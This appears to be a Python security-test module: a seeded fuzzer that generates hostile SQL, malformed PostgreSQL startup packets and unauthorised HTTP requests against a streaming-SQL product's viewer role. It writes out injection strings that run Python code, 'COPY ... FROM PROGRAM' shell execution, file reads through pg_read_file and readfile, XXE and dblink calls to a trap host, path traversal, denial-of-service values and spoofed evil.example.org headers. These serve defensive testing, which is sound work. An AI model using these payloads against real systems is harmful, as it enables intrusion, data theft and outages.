"""Random statements, packets and requests of somebody who means no good. A seed makes the same ones again."""

from __future__ import annotations

import random
import struct
from collections.abc import Sequence

from tests.security.place import MARKER

CODE = f"__import__('builtins').__dict__.__setitem__('{MARKER}', 1)"
_QUOTED = CODE.replace("'", "''")
TABLES = (
    "cars", "owners", "numbers", "log", "information_schema.mappings", "information_schema.jobs", "pg_catalog.pg_class c",
    "pg_catalog.pg_type", "pg_attribute", "pg_shadow", "pg_authid", "pg_stat_activity", "parquet.`{secret}`", "text.`{secret}`",
    "'{secret}'", "read_csv('{secret}')", "csv.`file://{secret}`", "range(10)", "(VALUES (1)) AS v (x)", "sqlite_master",
    "pragma_database_list", "pg_read_file('{secret}')", 'SNAPSHOT s STAGE "x"',
)  # fmt: skip
CALLS = (
    f"EXTRACT('x'' if 0 else {_QUOTED}, 0) #' FROM c.oid)", f"c.relname -> 'x''] if 0 else {_QUOTED}, 0) #'",
    "xpath('<!DOCTYPE a SYSTEM \"http://{trap}/x\"><a/>', 'a')",
    "xpath_string('<!DOCTYPE a SYSTEM \"file://{secret}\"><a>&x;</a>', 'a')",
    "reflect('java.lang.System', 'getenv')", "java_method('java.lang.Runtime', 'getRuntime')", "try_reflect('a', 'b')",
    "load_extension('{secret}')", "readfile('{secret}')", "writefile('{secret}x', 'a')", "pg_read_file('{secret}')",
    "pg_ls_dir('/')", "lo_import('{secret}')", "pg_sleep(0)", "pg_terminate_backend(1)", "set_config('a', 'b', false)",
    "current_setting('data_directory')", "version()", "current_user", "input_file_name()", "from_xml('<a/>', 'a INT')",
    "dblink('host={trap}', 'SELECT 1')", "randomblob(1000000000)", "zeroblob(1000000000)", "printf('%.*c', 100000000, 'x')",
    "repeat('x', 1000000000)", "replicate('x', 9)", "regexp_replace('aaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '(a+)+$', '')",
    f"'''+str({_QUOTED})+'''", f'c."x""]+str({CODE})#"', "__key", "owner", "speed", "1", "NULL", "'a'", "count(*)", "*",
    "CAST('a' AS regclass)", "$1", "${{env:PITSTOP_TOKEN}}", "@@datadir", "U&'\\0027'", "E'\\''", "$x$'$x$", "1e999999",
    "9" * 400,
)  # fmt: skip
CHANGES = (
    "SINK INTO cars VALUES ('v1', 'Eve', 3)", "INSERT INTO cars VALUES ('v3', 'Eve', 3)", "DROP JOB copied", "DROP MAPPING cars",
    "CREATE OR REPLACE MAPPING cars TYPE Rate", "ALTER JOB copied SUSPEND", "CREATE VIEW more AS SELECT 1 AS x",
    "DROP VIEW owners",
    "CREATE SNAPSHOT s FOR JOB copied", "CREATE JOB evil AS INSERT INTO log SELECT * FROM numbers", "DELETE FROM cars",
    "ATTACH DATABASE '{secret}' AS a", "PRAGMA writable_schema=1", "COPY cars TO '{secret}'",
    "COPY cars FROM PROGRAM 'id {marker}'",
    "DO $$ BEGIN PERFORM 1; END $$", "CREATE EXTENSION dblink", "SET ROLE postgres", "SET x = '''+str({code})+'''", "RESET ALL",
    "ADD JAR '{secret}'", "CREATE FUNCTION f AS 'x'", "LISTEN a", "LOCK TABLE cars", "VACUUM", "SELECT 1; DROP MAPPING cars",
    "EXECUTE IMMEDIATE 'DROP MAPPING cars'", "SELECT TRANSFORM(owner) USING 'touch {secret}x' AS (a) FROM cars",
    "SELECT * FROM cars JOIN owners MAP (owner) USING 'touch {secret}x'", "CALL x()", "GRANT ALL ON cars TO PUBLIC", "BEGIN",
    "ROLLBACK",
)  # fmt: skip
"""Statements that would change, read or run something, and which a viewer may not."""
LOOKS = (
    "SHOW JOBS", "SHOW MAPPINGS", "DESCRIBE JOB copied", "SELECT owner FROM cars WHERE __key = 'v1'", "SELECT current_user",
    "SELECT owner, {call} FROM cars WHERE __key = 'v1'", "SELECT * FROM cars WHERE __key = {call}", "SELECT {call} FROM cars",
    "SELECT c.relname, {call} FROM pg_catalog.pg_class c", "SELECT 1 FROM pg_catalog.pg_class c WHERE {call} = c.relname",
    "SELECT {call} FROM information_schema.mappings", "WITH c AS (SELECT {call} AS a FROM cars) SELECT * FROM c",
)  # fmt: skip
"""What a viewer may ask for, and the same with a piece of an attack in it."""
WORDS = (
    "SELECT", "FROM", "WHERE", "WITH", "(", ")", ",", ";", "--", "/*", "*/", "'", '"', "`", "::", "[", "]", "{{", "}}", "AS",
    "JOIN",
    "UNION ALL", "ORDER BY", "LIMIT", "LATERAL", "PIVOT", "\\", "\u2028", "\ud800", "\U0001f600", "CASE", "NOT", "-", "||", "#>>",
)  # fmt: skip


class Attacker:
    """Makes attacks from a seed."""

    def __init__(self, seed: int, secret: str, trap: str) -> None:
        self.random = random.Random(seed)
        self._facts = {"secret": secret, "trap": trap, "code": CODE, "marker": MARKER}

    def statement(self) -> str:
        """Return a text of SQL: an attack by itself, one of pieces of attacks, or such a one spoiled."""
        draw = self.random
        text = draw.choice((self._look, self._look, self._change, self._query, self._salad))()
        if draw.random() < 0.15:
            at = draw.randrange(len(text) + 1)
            text = text[:at] + draw.choice(WORDS) + text[at + draw.randrange(4) :]
        if draw.random() < 0.02:
            text = draw.choice(("(" * 5_000, "NOT " * 3_000, "-" * 5_000, "CASE WHEN " * 1_000)) + text
        return text

    def packet(self, begun: bool) -> bytes:
        """Return bytes for the door of PostgreSQL: as the first ones of a connection, or behind a startup packet."""
        draw = self.random
        body = draw.randbytes(draw.choice((0, 1, 4, 9, 50, 500, 5_000)))
        length = draw.choice((len(body) + 4, 0, 3, 4, -1, 2**31 - 1, 10_001, len(body) + 400, max(len(body) - 3, 0)))
        if begun:
            kind = draw.choice((b"p", b"Q", b"X", b"P", b"B", b"E", b"S", b"d", b"F", draw.randbytes(1)))
            return kind + struct.pack("!i", length) + body
        code = draw.choice((196608, 80877103, 80877102, 80877104, 0, draw.getrandbits(31)))
        said = draw.choice((body, b"user\0" + body, b"user\0viewer\0\0", b"user\0viewer\0database\0" + body + b"\0\0"))
        length = draw.choice((len(said) + 8, len(said) + 8, length))
        return draw.choice((b"", struct.pack("!ii", length, code))) + said

    def request(self, paths: Sequence[tuple[str, str]]) -> tuple[str, str, dict[str, str], bytes]:
        """Return (method, target, headers, body) of a request without a right to it."""
        draw = self.random
        method, path = draw.choice(paths)
        for name in ("job", "name", "snapshot", "stage", "version", "artifact"):
            path = path.replace(
                f"{{{name}}}", draw.choice(("copied", "plain", "cars", "1", "..", "%2e%2e", "%2fetc%2fpasswd", "x%0ay"))
            )
        path = draw.choice(
            (path, path, path, path + "/", "/" + path, path.replace("/api", "/./api"), path.upper(), path + "%00", path + ";x=1")
        )
        headers = {}
        for name, values in _HEADERS.items():
            if draw.random() < 0.3:
                headers[name] = draw.choice(values)
        return (
            method,
            path,
            headers,
            draw.choice((b"", b"{}", b'{"statements": "DROP MAPPING cars"}', b"[" * 10_000, draw.randbytes(100))),
        )

    def _query(self) -> str:
        draw = self.random
        calls = ", ".join(draw.choice(CALLS) for _ in range(draw.choice((1, 1, 1, 2, 5))))
        text = f"SELECT {calls}"
        if draw.random() < 0.9:
            text += f" FROM {draw.choice(TABLES)}"
        if draw.random() < 0.4:
            text += f" WHERE {draw.choice(CALLS)} {draw.choice(('=', '~', 'LIKE', '<', 'IN'))} {draw.choice(CALLS)}"
        if draw.random() < 0.2:
            text += f" ORDER BY {draw.choice(CALLS)} LIMIT {draw.choice(CALLS)}"
        if draw.random() < 0.2:
            text = draw.choice(
                (f"WITH c AS ({text}) SELECT * FROM c", f"SELECT ({text})", f"{text} UNION ALL {text}", f"EXPLAIN {text}")
            )
        return self._filled(text)

    def _look(self) -> str:
        return self._filled(self.random.choice(LOOKS).replace("{call}", self.random.choice(CALLS)))

    def _change(self) -> str:
        return self._filled(self.random.choice(CHANGES))

    def _salad(self) -> str:
        draw = self.random
        pieces = [draw.choice(draw.choice((WORDS, WORDS, CALLS, TABLES))) for _ in range(draw.randrange(1, 30))]
        return self._filled(" ".join(pieces))

    def _filled(self, text: str) -> str:
        for name, value in self._facts.items():
            text = text.replace(f"{{{name}}}", value)
        return text.replace("{{", "{").replace("}}", "}")


_HEADERS = {
    "Authorization": ("Bearer", "Bearer wrong", "Bearer \u00ff", "Basic YTpi", "bearer  ", "Bearer null"),
    "Cookie": ("pitstop-session-web=x", "pitstop-session-0=a.b.c", "=; ;\u00ff"),
    "Pitstop-Session-Key": ("", "x", "\u00ff"),
    "Origin": ("null", "https://evil.example.org", ""),
    "Sec-Fetch-Site": ("cross-site", "same-origin", "none"),
    "Host": ("evil.example.org", "localhost", "127.0.0.1", "127.1", "[::1", ""),
    "X-HTTP-Method-Override": ("GET", "DELETE"),
    "X-Forwarded-For": ("127.0.0.1",),
    "Transfer-Encoding": ("identity", "gzip"),
    "Content-Type": ("application/json", "text/plain", "multipart/form-data"),
}
